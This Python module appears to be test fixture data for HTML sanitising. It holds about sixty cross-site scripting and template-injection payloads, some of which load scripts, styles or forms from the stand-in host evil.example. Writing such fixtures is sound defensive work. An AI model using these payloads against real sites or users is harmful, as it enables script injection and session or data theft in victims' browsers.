"""Sixty things that somebody might type to run something in somebody else's browser.

Each would call `alert`, load something or change the page, if any part of it became markup.
"""

_LONG = "A" * 1500

SCRIPTS = (
    # As everybody knows them
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script\x0c>alert(1)</script\n>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<script>alert`1`</script",
    # Out of what stands around them
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></div></li></ol></main><script>alert(1)</script>",
    "]]><!--<script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    # Attributes
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    '" onpointerenter="alert(1)" style="position:fixed;inset:0" x="',
    "x onload=alert(1)",
    "`><img src=x onerror=alert(1)>",
    '" accesskey="x" onclick="alert(1)',
    # Elements that call something by themselves
    "<img src=x onerror=alert(1)>",
    "<IMG/SRC=x/ONERROR=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button>Senden</button></form>",
    # Pictures that are programs
    '"><svg onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    # Addresses
    "javascript:alert(1)",
    "JaVaScRiPt\t:alert(1)",
    "<a href=javascript:alert(1)>Hier</a>",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://x.example/"onmouseover=alert(1)//',
    "[Hier](javascript:alert(1)) **<b onclick=alert(1)>fett</b>**",
    # What a browser makes of it when it reads it twice
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    # Other characters
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2028<img src=x onerror=alert(1)>\ufeff+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Templates, styles, length
    "{{constructor.constructor('alert(1)')()}} {% raw %}${alert(1)}#{7*7}<%= 7*7 %>",
    "{{ self.__init__.__globals__ }}{{ cycler.__init__ }}",
    "<style>*{display:none;background:url(//evil.example/x)}</style>",
    f"{_LONG}<script>alert(1)</script>{_LONG}",
)

PAYLOADS = tuple(f"P{number:02} {script}" for number, script in enumerate(SCRIPTS, start=1))
